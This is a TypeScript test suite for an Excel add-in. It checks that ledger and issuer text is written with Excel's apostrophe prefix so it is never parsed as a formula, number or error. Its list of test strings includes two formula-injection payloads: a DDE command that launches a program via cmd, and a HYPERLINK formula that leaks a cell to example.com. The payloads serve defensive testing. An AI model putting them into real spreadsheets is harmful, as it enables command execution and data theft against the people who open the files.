/**
 * Worksheet text (issue 7, section 4): every text cell that comes from the user's data (the ledger's
 * grant id, holder id, holder name and plan; the offer's issuer name) is written so that Excel keeps
 * exactly that text, whatever it looks like. Each hostile string goes through the real write path:
 * - the Excel gateway against office-addin-mock: what `range.formulas` receives for the cell, and a
 *   spreadsheet engine (HyperFormula) storing those inputs as Excel would, recalculated;
 * - the preview's in-memory gateway: what it reads back, and the same engine over its inputs.
 * The expected text is the input string itself; the expected figures are the core's.
 *
 * Why a prefix and not a pattern: Excel parses what it is sent as if typed (Range.values: "If the
 * returned value starts with a plus ("+"), minus ("-"), or equal sign ("="), Excel interprets this
 * value as a formula", and dates, times, fractions, percentages, exponents, booleans and error
 * literals the same way). After Excel's text prefix, the apostrophe, the rest is stored as text as
 * it is, and read back without the apostrophe (office-js issue 6687: `range.formulas` returns such
 * text without it). The "unprotected" table below shows the engine misreading the same strings
 * when they are sent bare.
 */
import * as fs from "fs";
import * as path from "path";
import { parseCsvLedger } from "../../src/core/ledger/importLedger";
import { Grant, LedgerResult } from "../../src/core/ledger/parseLedger";
import { OfferTerms, readOfferTerms } from "../../src/core/offer/offerTerms";
import { valueOffer } from "../../src/core/offer/valueOffer";
import { MemoryWorkbookGateway } from "../../src/taskpane/workbook/memoryGateway";
import { buildWorkbookModel, EXCEL_MAX_CELL_CHARS, SHEET_ASSUMPTIONS, SHEET_ELIGIBLE, SHEET_FEE, WorkbookModel } from "../../src/taskpane/workbook/model";
import { OfficeWorkbookGateway } from "../../src/taskpane/workbook/officeGateway";
import { mockExcel } from "./officeMock";
import { engineFromInputs, formulaCells, Inputs, sameValue, valueAt } from "./sheetEngine";

const SAMPLE = path.join(__dirname, "..", "..", "assets", "samples", "capstone-2003");
const offerJson = JSON.parse(fs.readFileSync(path.join(SAMPLE, "offer.json"), "utf8"));
const baseTerms = readOfferTerms(offerJson);
const baseLedger = parseCsvLedger("Grant Number,Grant Date,Expiration Date,Exercise Price,Outstanding,Relationship,Country\nA1,2001-05-01,2011-05-01,$5,100,Employee,US\n");

/** Hostile text: [what it is, the text]. Adding a case is one line. */
const HOSTILE: [string, string][] = [
  ["an exponent", "1E3"],
  ["an exponent, lower case", "1e3"],
  ["an exponent with sign", "1.5E+10"],
  ["leading zeros", "00123"],
  ["a time", "12:30"],
  ["a time with seconds and AM/PM", "12:30:45 PM"],
  ["a mixed fraction", "1 1/2"],
  ["a fraction", "1/2"],
  ["an error literal", "#N/A"],
  ["an error literal", "#DIV/0!"],
  ["an error literal", "#REF!"],
  ["a boolean", "TRUE"],
  ["a boolean, lower case", "false"],
  ["a percentage", "5%"],
  ["a currency amount", "$1,000"],
  ["a grouped number", "1,000"],
  ["an accounting negative", "(5)"],
  ["an ISO date", "2003-06-23"],
  ["a US date", "12/31/9999"],
  ["a month and day", "Jun 23"],
  ["a formula", "=1+1"],
  ["a plus sign", "+1"],
  ["a minus sign", "-1"],
  ["an at sign", "@SUM(A1)"],
  ["a DDE attack", "=cmd|' /C calc'!A0"],
  ["a hyperlink attack", '=HYPERLINK("http://example.com/?leak="&A1,"click")'],
  ["a full-width equals sign", "＝1+1"],
  ["a full-width plus sign", "＋1"],
  ["a full-width minus sign", "－1"],
  ["a full-width at sign", "＠A1"],
  ["full-width digits", "１２３"],
  ["Arabic-Indic digits", "١٢٣"],
  ["a leading apostrophe", "'quoted"],
  ["two leading apostrophes", "''quoted"],
  ["an apostrophe alone", "'"],
  ["an equals sign alone", "="],
  ["a leading space", " leading space"],
  ["a trailing space", "trailing space "],
  ["a non-breaking space", "\u00a0123"],
  ["a tab inside", "a\tb"],
  ["a leading tab", "\t=1+1"],
  ["a leading carriage return", "\r=1+1"],
  ["CR/LF inside", "line 1\r\nline 2"],
  ["a name with quotes and an ampersand", 'O\'Brien & "Sons"'],
  ["a double quote alone", '"'],
  ["an emoji", "Grant 😀"],
  ["NaN", "NaN"],
  ["Infinity", "Infinity"],
];

function grantWith(text: string): Grant {
  return { ...baseLedger.grants[0], grantId: text, holderId: text, holderName: text, plan: text };
}

function modelWith(grantText: string, issuerName: string): WorkbookModel {
  const ledger: LedgerResult = { ...baseLedger, grants: [grantWith(grantText)] };
  const terms: OfferTerms = { ...baseTerms, issuerName };
  return buildWorkbookModel(ledger, terms, valueOffer(ledger.grants, terms));
}

async function throughMemory(model: WorkbookModel) {
  const gateway = new MemoryWorkbookGateway();
  await gateway.writeWorkbook(model);
  const inputs: Inputs = Object.fromEntries(model.sheets.map((s) => [s.name, gateway.excelInputs(s.name)]));
  return { gateway, hf: engineFromInputs(inputs, gateway.names) };
}

async function throughExcel(model: WorkbookModel) {
  const mock = mockExcel();
  Object.assign(globalThis, { Excel: mock.excel });
  await new OfficeWorkbookGateway().writeWorkbook(model);
  const names = mock.names.map((n) => ({ name: n.name, ref: n.reference.replace(/^=/, "") }));
  return { mock, hf: engineFromInputs(mock.writtenSheets() as Inputs, names) };
}

/** The user-data text cells: [sheet, row, column] (0-based). */
const TEXT_CELLS: [string, number, number][] = [
  [SHEET_ELIGIBLE, 1, 0], // grant number
  [SHEET_ELIGIBLE, 1, 1], // holder id
  [SHEET_ELIGIBLE, 1, 2], // holder name
  [SHEET_ELIGIBLE, 1, 3], // plan
  [SHEET_ASSUMPTIONS, 1, 1], // the issuer (Issuer_Name)
];

describe("user text is kept exactly, through the Excel gateway (office-addin-mock) and the engine", () => {
  it.each(HOSTILE)("%s: %j", async (_, text) => {
    const model = modelWith(text, text);
    const { mock, hf } = await throughExcel(model);
    const written = mock.writtenSheets();
    for (const [sheet, row, col] of TEXT_CELLS) {
      expect(written[sheet][row][col]).toBe(`'${text}`); // what range.formulas receives: the text prefix, then the text
      expect(valueAt(hf, sheet, row, col)).toBe(text); // what is stored and read back
      expect(hf.getCellValueType({ sheet: hf.getSheetId(sheet)!, row, col })).toBe("STRING"); // text: not an error, number or boolean
      expect(hf.getCellFormula({ sheet: hf.getSheetId(sheet)!, row, col })).toBeUndefined(); // never a formula
    }
    // no number format on the ledger's text columns (A:D) is needed for it, or set; the issuer's cell
    // is formatted Text ("@", for the user's later edits) only after its text is in
    expect(mock.formats.filter((f) => f.sheet === SHEET_ELIGIBLE && f.numberFormat !== undefined && /^[A-D]/.test(f.address))).toEqual([]);
    expect(mock.formats.find((f) => f.sheet === SHEET_ASSUMPTIONS && f.address === "B2")?.numberFormat).toEqual([["@"]]);
    const wrote = mock.events.indexOf(`formulas ${SHEET_ASSUMPTIONS}!R1C1`);
    expect(wrote).toBeGreaterThanOrEqual(0);
    expect(mock.events.indexOf(`numberFormat ${SHEET_ASSUMPTIONS}!B2`)).toBeGreaterThan(wrote);
    // the formulas that use the issuer's name show it exactly, and every formula shows the core's figure
    expect(valueAt(hf, SHEET_FEE, 1, 0)).toBe(`${text} — Schedule TO (Rule 13e-4)`);
    expect(valueAt(hf, SHEET_FEE, 12, 0)).toContain(` shares of common stock of ${text} having an aggregate value of $`);
    expect(formulaCells(hf, model).filter((c) => !sameValue(c))).toEqual([]);
  });
});

describe("user text is kept exactly, through the preview's in-memory gateway and the engine", () => {
  it.each(HOSTILE)("%s: %j", async (_, text) => {
    const model = modelWith(text, text);
    const { gateway, hf } = await throughMemory(model);
    for (const [sheet, row, col] of TEXT_CELLS) {
      expect(gateway.excelInputs(sheet)[row][col]).toBe(`'${text}`);
      expect(valueAt(hf, sheet, row, col)).toBe(text);
      expect(hf.getCellValueType({ sheet: hf.getSheetId(sheet)!, row, col })).toBe("STRING");
    }
    const read = await gateway.readSource({ kind: "sheet", name: SHEET_ELIGIBLE });
    expect(read.values[1].slice(0, 4)).toEqual([text, text, text, text]);
    expect(formulaCells(hf, model).filter((c) => !sameValue(c))).toEqual([]);
  });
});

describe("without the prefix the same strings are misread (why every text gets it)", () => {
  it.each([
    ["1E3", 1000, "NUMBER"],
    ["00123", 123, "NUMBER"],
    ["12:30", 0.5208333333333334, "NUMBER"],
    ["TRUE", true, "BOOLEAN"],
    ["5%", 0.05, "NUMBER"],
    ["=1+1", 2, "NUMBER"],
    ["-1", -1, "NUMBER"],
    ["#N/A", "#N/A", "ERROR"],
  ])("%j sent bare is stored as %p (%s); after the prefix, as the text", (text, misread, type) => {
    const bare = engineFromInputs({ S: [[text]] }, []);
    expect(valueAt(bare, "S", 0, 0)).toBe(misread);
    expect(bare.getCellValueType({ sheet: 0, row: 0, col: 0 })).toBe(type);
    const prefixed = engineFromInputs({ S: [[`'${text}`]] }, []);
    expect(valueAt(prefixed, "S", 0, 0)).toBe(text);
    expect(prefixed.getCellValueType({ sheet: 0, row: 0, col: 0 })).toBe("STRING");
  });
});

describe("Excel's 32,767-character cell limit: kept exactly up to it, refused beyond it (never cut)", () => {
  const limit = EXCEL_MAX_CELL_CHARS;
  const footnoteWithout = (m: WorkbookModel) => ((m.sheets[2].cells[12][0] as { value: string }).value.length) - m.sheets[0].cells[1][1]!.toString().length;

  it("ledger text of exactly 32,767 characters is written and read back whole", async () => {
    const text = "x".repeat(limit - 1) + "!";
    const model = modelWith(text, "Issuer");
    const excel = await throughExcel(model);
    expect(excel.mock.writtenSheets()[SHEET_ELIGIBLE][1][2]).toBe(`'${text}`);
    expect(valueAt(excel.hf, SHEET_ELIGIBLE, 1, 2)).toBe(text);
    const memory = await throughMemory(model);
    expect((await memory.gateway.readSource({ kind: "sheet", name: SHEET_ELIGIBLE })).values[1][2]).toBe(text);
  });

  it("the longest issuer name the footnote can hold is written, and the footnote shows it whole", async () => {
    const probe = modelWith("A1", "x");
    const name = "N".repeat(limit - footnoteWithout(probe));
    const model = modelWith("A1", name);
    const { hf } = await throughExcel(model);
    expect((valueAt(hf, SHEET_FEE, 12, 0) as string).length).toBe(limit);
    expect(formulaCells(hf, model).filter((c) => !sameValue(c))).toEqual([]);
  });

  it.each([
    ["ledger text of 32,768 characters", () => modelWith("y".repeat(limit + 1), "Issuer"), "'Eligible Options'!A2: the text is 32,768 characters long; an Excel cell holds at most 32,767"],
    ["an issuer name of 32,768 characters", () => modelWith("A1", "z".repeat(limit + 1)), "'Assumptions'!B2: the text is 32,768 characters long"],
    ["an issuer name one character too long for the footnote", () => modelWith("A1", "N".repeat(limit - footnoteWithout(modelWith("A1", "x")) + 1)), "'Filing Fee'!A13: the formula's text would be 32,768 characters long; Excel shows #VALUE!"],
  ])("%s is refused by both gateways, naming the cell, and nothing is written", async (_, make, message) => {
    const model = make();
    const mock = mockExcel();
    Object.assign(globalThis, { Excel: mock.excel });
    await expect(new OfficeWorkbookGateway().writeWorkbook(model)).rejects.toThrow(message);
    expect(mock.added).toEqual([]);
    expect(mock.written).toEqual([]);
    const memory = new MemoryWorkbookGateway();
    await expect(memory.writeWorkbook(model)).rejects.toThrow(message);
    expect(memory.sheets.size).toBe(0);
  });
});

describe("empty text", () => {
  it("an empty holder name is a blank cell (Excel reads a blank back as \"\", as the preview does)", async () => {
    const ledger: LedgerResult = { ...baseLedger, grants: [{ ...grantWith("G1"), holderName: "" }] };
    const model = buildWorkbookModel(ledger, baseTerms, valueOffer(ledger.grants, baseTerms));
    const { mock } = await throughExcel(model);
    expect(mock.writtenSheets()[SHEET_ELIGIBLE][1][2]).toBe("");
    const { gateway } = await throughMemory(model);
    expect((await gateway.readSource({ kind: "sheet", name: SHEET_ELIGIBLE })).values[1][2]).toBe("");
  });
});
